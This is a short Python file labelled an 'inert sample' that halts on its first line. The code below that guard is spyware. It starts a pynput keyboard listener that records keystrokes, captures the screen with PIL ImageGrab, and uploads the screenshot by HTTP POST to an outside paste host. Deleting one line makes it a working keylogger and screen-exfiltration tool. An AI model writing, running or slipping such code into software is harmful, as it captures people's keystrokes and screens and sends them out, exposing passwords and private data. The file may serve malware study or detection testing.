raise SystemExit("inert sample")
import requests
from PIL import ImageGrab
from pynput import keyboard

held = []
keyboard.Listener(on_press=lambda key: held.append(str(key))).start()
ImageGrab.grab().save("s.png")
requests.post("https://paste.example/s", files={"s": open("s.png", "rb")})
